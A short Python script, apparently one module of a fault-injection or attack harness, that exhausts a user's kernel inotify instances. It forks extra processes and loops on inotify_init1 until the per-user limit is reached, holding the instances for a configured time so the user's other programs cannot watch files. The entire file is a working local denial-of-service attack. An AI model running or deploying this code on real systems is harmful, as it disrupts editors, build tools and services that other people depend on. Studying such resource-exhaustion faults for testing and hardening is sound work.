"""Opens every file watch that the kernel grants to its user, so that the user's other programs get none."""

import ctypes
import os
import time


def attack(facts: dict[str, str]) -> None:
    libc, until = ctypes.CDLL(None), time.monotonic() + float(facts["hold_s"])
    children = [os.fork() for _ in range(2)]
    while time.monotonic() < until:
        while libc.inotify_init1(0) >= 0:
            pass
        time.sleep(0.01)
    if 0 in children:
        os._exit(0)
